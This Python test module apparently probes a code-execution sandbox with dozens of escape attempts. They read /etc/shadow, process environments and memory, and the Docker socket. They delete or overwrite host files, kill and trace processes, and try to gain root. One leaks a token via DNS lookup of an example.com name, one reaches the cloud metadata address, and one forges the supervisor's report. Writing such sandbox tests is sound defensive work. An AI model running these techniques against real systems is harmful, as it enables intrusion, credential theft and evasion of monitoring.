"""What hostile code tries. Each prints `ESCAPED` if it got somewhere, `held` if it did not.

`{name}` is filled in with what the test's host side offers: files, ports, processes of its own.
"""

from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass

_START = """
import ctypes, errno, os, signal, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def escaped(what=""):
    print("ESCAPED", what, flush=True)
    os._exit(0)
def call(number, *arguments):
    answer = libc.syscall(ctypes.c_long(number), *[
        ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer
ARM = os.uname().machine == "aarch64"
def number(intel, arm):
    return arm if ARM else intel
def each(*tries):
    for one in tries:
        try:
            one()
        except (OSError, RuntimeError, ValueError, AttributeError) as error:
            print("no:", error)
try:
"""
_END = """
except (OSError, MemoryError, RuntimeError, ValueError, AttributeError,
        subprocess.SubprocessError) as error:
    print("held", type(error).__name__, error)
else:
    print("held")
"""


@dataclass(frozen=True)
class Attempt:
    """One try; `real` ones succeed where there is no sandbox, which a test shows."""

    name: str
    body: str
    real: bool = True

    def source(self, places: dict[str, str]) -> str:
        """The program, with the host's places filled in."""
        body = self.body
        for name, value in places.items():
            body = body.replace("{" + name + "}", value)
        return _START + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + _END


def _read(path: str) -> str:
    return f'escaped(open({path!r}, "rb").read(200))'


READING = [
    Attempt("read a file of the host", 'escaped(open("{secret}").read())'),
    Attempt("list a folder of the host", 'escaped(os.listdir("{folder}"))'),
    Attempt("read the password hashes", _read("/etc/shadow"), real=os.geteuid() == 0),
    # Where the interpreter lies in a home folder, the way to it exists, and nothing else.
    Attempt(
        "list the home folder",
        """
        if len(os.listdir("{home}")) > 1:
            escaped(os.listdir("{home}"))
    """,
        real=False,
    ),
    Attempt(
        "read through a symbolic link",
        """
        os.symlink("{secret}", "link")
        escaped(open("link").read())
    """,
    ),
    Attempt(
        "read through a hard link",
        """
        os.link("{secret}", "hard")
        escaped(open("hard").read())
    """,
    ),
    Attempt("climb out by dots", 'escaped(open("../" * 40 + "{secret}".lstrip("/")).read())'),
    Attempt("read by way of /proc/self/root", 'escaped(open("/proc/self/root{secret}").read())'),
    Attempt(
        "read by way of process 1's root",
        'escaped(open("/proc/1/root{secret}").read())',
        real=False,
    ),
    Attempt("read by way of a process's folder", 'escaped(os.listdir("/proc/{victim}/cwd"))'),
    Attempt(
        "read by way of a moved working folder",
        """
        os.chdir("{folder}")
        escaped(open("secret.txt").read())
    """,
    ),
    Attempt(
        "open a file by its handle",
        """
        handle = ctypes.create_string_buffer(128)
        handle[0:4] = (120).to_bytes(4, "little")
        mount = ctypes.c_int()
        call(number(303, 264), -100, b"{secret}", handle, ctypes.byref(mount), 0)
        escaped("handle")
    """,
    ),
    Attempt(
        "find the host's variables",
        """
        if "{token}" in repr(dict(os.environ)):
            escaped("environment")
    """,
        real=False,
    ),
    Attempt(
        "read the variables of another process", 'escaped(open("/proc/{victim}/environ").read())'
    ),
    Attempt(
        "read the variables of every process",
        """
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and "{token}" in open(f"/proc/{pid}/environ").read():
                    escaped(pid)
            except OSError:
                pass
    """,
    ),
    Attempt(
        "read the command line of another process",
        """
        if "{token}" in open("/proc/{victim}/cmdline").read():
            escaped("cmdline")
    """,
    ),
    Attempt(
        "see the host's processes",
        """
        if "{victim}" in os.listdir("/proc"):
            name = open("/proc/{victim}/status").read()
            escaped(name)
    """,
    ),
    Attempt(
        "read another process's memory by file",
        """
        open("/proc/{victim}/maps").read(1)
        open("/proc/{victim}/mem", "rb")
        escaped("memory")
    """,
    ),
    Attempt(
        "read another process's open files",
        """
        for descriptor in os.listdir("/proc/{victim}/fd"):
            escaped(os.readlink(f"/proc/{victim}/fd/{descriptor}"))
    """,
    ),
    Attempt(
        "use descriptors that were left open",
        """
        for descriptor in range(3, 4096):
            try:
                os.fstat(descriptor)
            except OSError:
                continue
            escaped(descriptor)
    """,
        real=False,
    ),
    Attempt(
        "find what others left in the temporary folder",
        """
        if os.path.basename("{folder}") in os.listdir(os.path.dirname("{folder}")):
            escaped("listed")
    """,
    ),
    Attempt(
        "take a descriptor from another process",
        """
        pidfd = call(434, {victim}, 0)
        escaped(call(438, pidfd, 0, 0))
    """,
    ),
    Attempt(
        "notice what happens in a folder of the host",
        """
        watcher = libc.inotify_init()
        if libc.inotify_add_watch(watcher, b"{folder}", 0xFFF) >= 0:
            escaped("watching")
    """,
    ),
    Attempt(
        "read the kernel's log",
        """
        buffer = ctypes.create_string_buffer(4096)
        if call(number(103, 116), 3, buffer, 4096) > 0:
            escaped("log")
    """,
        real=False,
    ),
    Attempt(
        "list the containers of the engine",
        """
        channel = socket.socket(socket.AF_UNIX)
        channel.connect("/var/run/docker.sock")
        escaped("engine")
    """,
        real=False,
    ),
    Attempt(
        "read the disk itself",
        """
        for name in ("vda", "sda", "nvme0n1", "mem", "kmem", "port"):
            try:
                open(f"/dev/{name}", "rb").read(1)
            except OSError:
                continue
            escaped(name)
    """,
        real=False,
    ),
]

WRITING = [
    Attempt(
        "write a file beside the host's",
        """
        open("{folder}/planted", "w").write("x")
        escaped()
    """,
    ),
    Attempt(
        "overwrite a file of the host",
        """
        open("{secret}", "w").write("x")
        escaped()
    """,
    ),
    Attempt(
        "append to a file of the host",
        """
        open("{secret}", "a").write("x")
        escaped()
    """,
    ),
    Attempt(
        "truncate a file of the host",
        """
        os.truncate("{secret}", 0)
        escaped()
    """,
    ),
    Attempt(
        "truncate by opening",
        """
        os.open("{secret}", os.O_RDONLY | os.O_TRUNC)
        escaped()
    """,
    ),
    Attempt(
        "delete a file of the host",
        """
        os.unlink("{secret}")
        escaped()
    """,
    ),
    Attempt(
        "rename a file of the host",
        """
        os.rename("{secret}", "{secret}.moved")
        escaped()
    """,
    ),
    Attempt(
        "change a file's metadata",
        """
        each(
            lambda: os.chmod("{secret}", 0o777),
            lambda: os.utime("{secret}", (0, 0)),
            lambda: os.setxattr("{secret}", "user.codex", b"x"),
            lambda: os.chown("{secret}", 12345, 12345),
        )
        status = os.stat("{secret}")
        if status.st_mode & 0o777 == 0o777 or status.st_mtime == 0 or status.st_uid == 12345:
            escaped(status)
    """,
    ),
    Attempt(
        "make a folder or a link on the host",
        """
        os.mkdir("{folder}/planted")
        escaped()
    """,
    ),
    Attempt(
        "plant a start-up file among the packages",
        """
        import sysconfig
        for folder in (sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"]):
            try:
                open(folder + "/codex_planted.pth", "w").write("import planted")
            except OSError as error:
                print("no:", error)
                continue
            os.unlink(folder + "/codex_planted.pth")
            escaped(folder)
    """,
        real=False,
    ),
    Attempt(
        "change a library's file",
        """
        os.open(os.__file__, os.O_WRONLY)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "change a library's permissions through a descriptor",
        """
        before = os.stat(os.__file__).st_mode
        descriptor = os.open(os.__file__, os.O_RDONLY)
        os.fchmod(descriptor, before ^ 0o020)
        if os.stat(os.__file__).st_mode != before:
            os.fchmod(descriptor, before)
            escaped()
    """,
        real=False,
    ),
    Attempt(
        "write into the kernel's settings",
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                     "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
                     "/sys/kernel/mm/ksm/run", "/sys/power/state"):
            try:
                os.close(os.open(path, os.O_WRONLY))
            except OSError as error:
                print("no:", error)
                continue
            escaped(path)
    """,
        real=False,
    ),
    Attempt(
        "protect itself from the memory killer",
        """
        open("/proc/self/oom_score_adj", "w").write("-1000")
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "make a device",
        """
        import stat
        os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "mount a file system",
        """
        os.mkdir("mounted")
        target = os.path.abspath("mounted").encode()
        call(number(165, 40), b"none", target, b"tmpfs", 0, None)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "change the root folder",
        """
        each(lambda: os.chroot(".") or escaped("chroot"),
             lambda: call(number(155, 41), b".", b".") and escaped("pivot"))
    """,
        real=False,
    ),
    Attempt(
        "fill shared memory that outlives it",
        """
        name = call(number(29, 194), 0, 4096, 0o1600)
        call(number(31, 195), name, 0, 0)
        escaped("segment")
    """,
    ),
]

NETWORK = [
    Attempt(
        "connect over TCP",
        """
        socket.create_connection(("127.0.0.1", {tcp}), 2).send(b"x")
        escaped()
    """,
    ),
    Attempt(
        "connect over TCP and IPv6",
        """
        socket.create_connection(("::1", {tcp6}), 2).send(b"x")
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "send over UDP",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"x", ("127.0.0.1", {udp}))
    """,
    ),
    Attempt(
        "connect to a socket in a folder of the host",
        """
        with socket.socket(socket.AF_UNIX) as channel:
            channel.connect("{unix}")
            channel.send(b"x")
        escaped()
    """,
    ),
    Attempt(
        "send to a datagram socket of the host",
        """
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as channel:
            channel.sendto(b"x", "{datagram}")
        escaped()
    """,
    ),
    Attempt(
        "send from a socket pair",
        """
        first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        first.sendto(b"x", "{datagram}")
        escaped()
    """,
    ),
    Attempt(
        "connect to an abstract socket",
        """
        with socket.socket(socket.AF_UNIX) as channel:
            channel.connect("\\x00{abstract}")
            channel.send(b"x")
        escaped()
    """,
    ),
    Attempt(
        "ask a name server",
        """
        socket.getaddrinfo("codex-{token}.example.com", 80)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "send a question to a name server by hand",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(1)
            sender.connect(("192.0.2.1", 53))
            sender.send(b"x")
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "reach the metadata address of a cloud",
        """
        socket.create_connection(("169.254.169.254", 80), 1)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "open sockets of rare families",
        """
        # netlink, packet, algorithm, vsock, bluetooth, raw
        for family, kind in ((16, 3), (17, 3), (38, 5), (40, 1), (31, 3), (2, 3)):
            try:
                socket.socket(family, kind)
            except OSError as error:
                print("no:", error)
                continue
            escaped(family)
    """,
    ),
    Attempt(
        "open a socket by way of io_uring",
        """
        parameters = ctypes.create_string_buffer(120)
        escaped(call(425, 4, parameters))
    """,
        real=False,
    ),
]

PROCESSES = [
    Attempt(
        "kill another process",
        """
        os.kill({victim}, signal.SIGKILL)
        escaped()
    """,
    ),
    Attempt(
        "kill another process by a descriptor",
        """
        signal.pidfd_send_signal(os.pidfd_open({victim}), signal.SIGKILL)
        escaped()
    """,
    ),
    Attempt(
        "kill another process's thread",
        """
        call(number(234, 131), {victim}, {victim}, 9)
        escaped()
    """,
    ),
    Attempt(
        "kill another process by queueing",
        """
        information = ctypes.create_string_buffer(128)
        information[8:12] = (-1).to_bytes(4, "little", signed=True)
        call(number(129, 138), {victim}, 9, information)
        escaped()
    """,
    ),
    Attempt(
        "kill another process by a file's owner",
        """
        import fcntl
        reader, writer = socket.socketpair()
        fcntl.fcntl(reader, fcntl.F_SETOWN, {victim})
        fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        writer.send(b"x")
    """,
    ),
    Attempt(
        "kill its parent",
        """
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(0.3)
        if os.getppid() != {parent}:
            print("held")
    """,
        real=False,
    ),
    Attempt(
        "stop its parent",
        """
        os.kill(os.getppid(), signal.SIGSTOP)
    """,
        real=False,
    ),
    Attempt(
        "trace its parent",
        """
        call(number(101, 117), 16, os.getppid(), 0, 0)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "write its parent's memory",
        """
        open(f"/proc/{os.getppid()}/mem", "r+b")
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "trace another process",
        """
        call(number(101, 117), 0x4206, {victim}, 0, 0)
        escaped()
    """,
    ),
    Attempt(
        "read another process's memory",
        """
        buffer = ctypes.create_string_buffer(16)
        vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 16)
        call(number(310, 270), {victim}, vector, 1, vector, 1, 0)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "set another process's limits",
        """
        limits = (ctypes.c_ulong * 2)(1, 1)
        call(number(302, 261), {victim}, 0, limits, None)
        escaped()
    """,
    ),
    Attempt(
        "slow another process down",
        """
        os.setpriority(os.PRIO_PROCESS, {victim}, 19)
        escaped()
    """,
    ),
    Attempt(
        "slow all of a user's processes down",
        """
        os.setpriority(os.PRIO_USER, {uid}, 19)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "move another process to one processor",
        """
        os.sched_setaffinity({victim}, {0})
        escaped()
    """,
    ),
    Attempt(
        "make namespaces of its own",
        """
        each(
            lambda: call(number(272, 97), 0x10000000) == 0 and escaped("unshare user"),
            lambda: call(number(272, 97), 0x00020000) == 0 and escaped("unshare mount"),
            lambda: call(number(272, 97), 0x40000000) == 0 and escaped("unshare network"),
        )
        pid = call(number(56, 220), 0x10000000 | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        escaped("clone")
    """,
    ),
    Attempt(
        "enter another process's namespaces",
        """
        descriptor = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        call(number(308, 268), descriptor, 0)
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "use the kernel's keys",
        """
        each(
            lambda: call(number(250, 219), 0, -3, 1) and escaped("keyctl"),
            lambda: call(number(248, 217), b"user", b"codex", b"x", 1, -3) and escaped("add_key"),
        )
    """,
    ),
    Attempt(
        "use calls with a history of holes",
        """
        zero = ctypes.create_string_buffer(256)
        for name, intel, arm in (("bpf", 321, 280), ("userfaultfd", 323, 282),
                                 ("perf", 298, 241), ("memfd", 319, 279), ("secret", 447, 447)):
            try:
                call(number(intel, arm), zero, 0, 0, 0, 0)
            except OSError as error:
                assert error.errno in (errno.EPERM, errno.ENOSYS), (name, error)
                continue
            escaped(name)
    """,
        real=False,
    ),
    Attempt(
        "become root",
        """
        each(
            lambda: os.setuid(0) or os.getuid() or os.setgroups([0]) or escaped("groups"),
            lambda: os.capget() or escaped(),
        )
        for line in open("/proc/self/status") if os.path.exists("/proc/self/status") else ():
            if line.startswith("CapEff") and int(line.split()[1], 16) & ~2:
                escaped(line)
    """,
        real=False,
    ),
    Attempt(
        "run a program that raises its rights",
        """
        for program in ("/usr/bin/su", "/usr/bin/sudo", "/usr/bin/mount", "/bin/sh"):
            try:
                subprocess.run([program, "--version"], timeout=5)
            except OSError as error:
                print("no:", error)
                continue
            escaped(program)
    """,
        real=False,
    ),
    Attempt(
        "lift its own limits",
        """
        import resource
        for what in (resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE,
                     resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
            try:
                resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (OSError, ValueError) as error:
                print("no:", error)
                continue
            escaped(what)
    """,
        real=False,
    ),
    Attempt(
        "listen in on its own filter",
        """
        program = ctypes.create_string_buffer(bytes([6, 0, 0, 0, 0, 0, 0xC0, 0x7F]), 8)
        class Header(ctypes.Structure):
            _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
        header = Header(1, ctypes.addressof(program))
        escaped(call(number(317, 277), 1, 8, ctypes.byref(header)))
    """,
        real=False,
    ),
    Attempt(
        "call by the numbers of another machine mode",
        """
        if ARM:
            raise OSError("there is no such mode")
        escaped(call(0x40000000 + 39))
    """,
        real=False,
    ),
    Attempt(
        "change the clock",
        """
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        escaped()
    """,
        real=False,
    ),
    Attempt(
        "report in the place of the one who watches",
        """
        told = b'{"exit": 0, "limit": null, "cpu": 0, "wall": 0, "memory": 0, "tasks": 1}\\n'
        for descriptor in range(3, 1024):
            each(lambda: escaped(os.write(descriptor, told)))
    """,
        real=False,
    ),
    Attempt(
        "change the host's name",
        """
        socket.sethostname("owned")
        escaped()
    """,
        real=False,
    ),
]

ATTEMPTS = [*READING, *WRITING, *NETWORK, *PROCESSES]
